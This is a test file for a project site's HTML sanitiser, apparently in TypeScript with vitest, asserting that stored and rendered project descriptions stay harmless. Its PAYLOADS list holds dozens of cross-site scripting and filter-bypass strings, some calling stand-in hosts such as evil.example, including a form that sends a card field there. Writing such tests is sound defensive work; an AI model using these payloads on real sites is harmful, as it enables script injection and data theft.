// Texts of projects are HTML, so whoever can write a row could try to run something on the page.
// Here the rows are hostile already: what reads them has to make them harmless (PRJ-06, TRAP-30).
import { createHash } from 'node:crypto';
import type { Project } from '@nabta/contract';
import { expect, it } from 'vitest';
import { loadSite } from '../../http/site.ts';
import { shareTestApp } from '../../testing/share-test-app.ts';
import { makeProject } from '../../testing/factories.ts';
import { sanitiseRichText } from './rules.ts';

const TAB = '\t';

/** Hostile HTML, by its trick. Each tries to call `boom`. */
const PAYLOADS: readonly (readonly [string, string])[] = [
  ['a script', '<script>boom()</script>'],
  ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a script cut in two', '<scr<script>ipt>boom()</scr</script>ipt>'],
  ['a script that is never closed', '<script>boom()'],
  ['a script with a slash', '<script/x>boom()</script/x>'],
  ['a script in a comment', '<!--><script>boom()</script>-->'],
  ['a script in CDATA', '<![CDATA[<script>boom()</script>]]>'],
  ['a script written as text', '&lt;script&gt;boom()&lt;/script&gt;'],
  ['an image that fails', '<img src=x onerror=boom()>'],
  ['an image with slashes', '<img/src=x/onerror=boom()//'],
  ['an image with back quotes', '<img src=`x`onerror=boom()>'],
  ['an image that tells of readers', '<img src="https://evil.example/pixel.gif">'],
  ['a set of images', '<img srcset="https://evil.example/x 1x" src="x">'],
  ['a picture', '<picture><source srcset=x onerror=boom()><img src=x></picture>'],
  ['a drawing that loads', '<svg onload=boom()></svg>'],
  ['a drawing with a script', '<svg><script>boom()</script></svg>'],
  ['a drawing that moves', '<svg><animate onbegin=boom() attributeName=x dur=1s></svg>'],
  ['a drawing with a link', '<svg><a xlink:href="javascript:boom()"><text>x</text></a></svg>'],
  ['a drawing that uses another', '<svg><use href="data:image/svg+xml,<svg/>#x"/></svg>'],
  ['a formula', '<math href="javascript:boom()">x</math>'],
  [
    'a formula that becomes HTML',
    '<math><mtext><table><mglyph><style><img src=x onerror=boom()></style></mglyph></table></mtext></math>',
  ],
  ['a style that becomes HTML', '<svg><style><img src=x onerror=boom()></style></svg>'],
  ['text of no script', '<noscript><p title="</noscript><img src=x onerror=boom()>"></noscript>'],
  ['a field that becomes HTML', '<textarea></textarea><img src=x onerror=boom()>'],
  ['a template', '<template><script>boom()</script></template>'],
  ['a script link', '<a href="javascript:boom()">x</a>'],
  ['a script link in mixed case', '<a href="JaVaScRiPt:boom()">x</a>'],
  ['a script link with a tab', `<a href="java${TAB}script:boom()">x</a>`],
  ['a script link with a line break', '<a href="java\nscript:boom()">x</a>'],
  ['a script link with a space before', '<a href=" \u0001javascript:boom()">x</a>'],
  ['a script link in decimals', '<a href="&#106;&#97;vascript:boom()">x</a>'],
  ['a script link in hexadecimals', '<a href="&#x6A;&#x61vascript&colon;boom()">x</a>'],
  ['a script link with a written tab', '<a href="java&Tab;script&#58;boom()">x</a>'],
  ['a data link', '<a href="data:text/html,<script>boom()</script>">x</a>'],
  ['a data link in base64', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
  ['a vbscript link', '<a href="vbscript:boom()">x</a>'],
  ['a file link', '<a href="file:///etc/passwd">x</a>'],
  ['a link without a scheme', '<a href="//evil.example">x</a>'],
  ['a link with backslashes', '<a href="/\\evil.example">x</a>'],
  ['a link that hears', '<a href="/donate" onclick="boom()" onfocus=boom() autofocus>x</a>'],
  ['a link that is sent', '<a href="/donate" ping="https://evil.example">x</a>'],
  ['a frame', '<iframe src="javascript:boom()"></iframe>'],
  ['a frame with its text', '<iframe srcdoc="<script>boom()</script>"></iframe>'],
  ['an object', '<object data="javascript:boom()"></object>'],
  ['an embedded one', '<embed src="javascript:boom()">'],
  ['a film', '<video onerror=boom()><source onerror=boom()></video>'],
  ['a sound', '<audio src=x onerror=boom()>'],
  ['details', '<details open ontoggle=boom()>x</details>'],
  ['a marquee', '<marquee onstart=boom()>x</marquee>'],
  ['a style', '<style>*{background:url(//evil.example)}</style>'],
  ['a style that is imported', '<link rel=stylesheet href=//evil.example/x.css>'],
  ['an expression', '<p style="width:expression(boom())">x</p>'],
  ['a cover over the page', '<p style="position:fixed;inset:0">x</p>'],
  ['a class of the site', '<p class="fixed inset-0" id="main">x</p>'],
  ['a form', '<form action="https://evil.example"><input name=card><button>x</button></form>'],
  ['a button', '<button formaction="javascript:boom()">x</button>'],
  ['a way elsewhere', '<meta http-equiv=refresh content="0;url=javascript:boom()">'],
  ['another base', '<base href="https://evil.example/">'],
  ['a body', '<body onload=boom()>x</body>'],
  ['a paragraph that hears', '<p onmouseover="boom()" ONCLICK=boom()>x</p>'],
  ['an attribute that breaks out', "<p lang='\"><script>boom()</script>'>x</p>"],
  ['a direction that breaks out', '<bdi dir="x&quot; onfocus=&quot;boom()">x</bdi>'],
  ['a tag of a name not known', '<x onclick=boom()>x</x>'],
  ['a NUL inside', '<scr\u0000ipt>boom()</scr\u0000ipt>'],
  ['a tag that is never closed', '<p><a href="https://x.example" onclick="boom()'],
];

/**
 * All that may leave the server: text, and text markup with these attributes, written one way. Read
 * by no parser, so that none can be fooled.
 */
const HARMLESS =
  /^(?:[^<]|<br \/>|<\/?(?:p|h3|h4|ul|ol|li|strong|em|blockquote|bdi|a)>|<(?:p|h3|h4|ul|ol|li|strong|em|blockquote|bdi)(?: (?:lang|dir)="[^"<>]*")+>|<a href="(?:https:\/\/|mailto:|tel:|\/(?![/\\]))[^"<>]*"(?: rel="noopener")?>)*$/;

const test = await shareTestApp({ site: await loadSite() });

const wrapped = (payload: string) => `<p>before</p>${payload}<p>after</p>`;

it('tells what is harmless from what is not', () => {
  expect('<p lang="ar">نعم</p><a href="https://x.example" rel="noopener">x</a>').toMatch(HARMLESS);
  const texts = PAYLOADS.map(([, payload]) => payload).filter((payload) => HARMLESS.test(payload));
  expect(texts).toEqual([
    '&lt;script&gt;boom()&lt;/script&gt;',
    '<bdi dir="x&quot; onfocus=&quot;boom()">x</bdi>',
  ]);
});

it.each(PAYLOADS)('where texts are stored: %s', (_what, payload) => {
  const safe = sanitiseRichText(wrapped(payload));
  expect(safe).toMatch(HARMLESS);
  expect(safe).toMatch(/^<p>before<\/p>/);
  expect(sanitiseRichText(safe), 'once is enough').toBe(safe);
});

it.each(PAYLOADS)('in a row of the database, as the API tells it: %s', async (_what, payload) => {
  const hostile = wrapped(payload).replaceAll('\u0000', '');
  const { id } = await makeProject(test.deps.db, {
    descriptionEn: hostile,
    descriptionAr: `<p>بالعربية</p>${hostile}`,
  });
  for (const locale of ['en', 'ar']) {
    const answer = await test.app.inject({ url: `/v1/guests/projects/${id}?locale=${locale}` });
    const { project } = answer.json<{ project: Project }>();
    expect(project.description).toMatch(HARMLESS);
    expect(project.description_en).toMatch(HARMLESS);
    expect(project.description_ar).toMatch(HARMLESS);
    expect(project.description_ar).toMatch(/^<p>بالعربية<\/p><p>before<\/p>/);
  }
});

it('in every row at once, as the page shows it', async () => {
  const hostile = PAYLOADS.map(([, payload]) => payload.replaceAll('\u0000', ''));
  const text = '</script><script>boom()</script><img src=x onerror=boom()>"\'';
  const { id } = await makeProject(test.deps.db, {
    titleEn: text,
    titleAr: text,
    summaryEn: text,
    summaryAr: text,
    descriptionEn: hostile.map(wrapped).join('\n'),
    descriptionAr: hostile.map(wrapped).join('\n'),
    pictureIds: ['scene-0001', 'scene-0002'],
  });
  // One more, whose page shows the hostile one as another project.
  const { id: other } = await makeProject(test.deps.db);
  for (const path of [`/projects/${id}`, `/projects/${other}`, '/projects']) {
    for (const language of ['en', 'ar']) {
      const answer = await test.app.inject({
        url: path,
        headers: { cookie: `i18nextLng=${language}` },
      });
      expect(answer.statusCode, path).toBe(200);
      expectHarmless(answer.body, String(answer.headers['content-security-policy']));
    }
  }
});

/** Tags that nothing on a page of projects is made of. */
const FOREIGN =
  /<(?:iframe|object|embed|form|input|textarea|math|video|audio|base|marquee|x|animate)\b/i;

function expectHarmless(page: string, policy: string): void {
  const [main = ''] = /<main[\s\S]*<\/main>/.exec(page) ?? [];
  expect(main).not.toBe('');
  expect(main).not.toMatch(FOREIGN);
  expect(main).not.toMatch(/<(?:script|style|meta|link)\b/i);
  expect(page).not.toMatch(/<(?:base|meta[^>]*http-equiv)\b/i);
  for (const [tag] of page.matchAll(/<[a-z](?:"[^"]*"|'[^']*'|[^>"'])*>/gi)) {
    const bare = tag.replaceAll(/"[^"]*"|'[^']*'/g, '""');
    expect(bare, 'no handler').not.toMatch(/\son\w+\s*=/i);
    expect(tag, 'no script link').not.toMatch(
      /(?:href|src|action)="\s*(?:javascript|data|vbscript)/i,
    );
  }
  for (const [, text = ''] of page.matchAll(/<script(?![^>]*ld\+json)[^>]*>(.*?)<\/script>/gs)) {
    const hash = createHash('sha256').update(text).digest('base64');
    expect(policy, 'a script of ours').toContain(`'sha256-${hash}'`);
    expect(text).not.toContain('<script');
  }
}
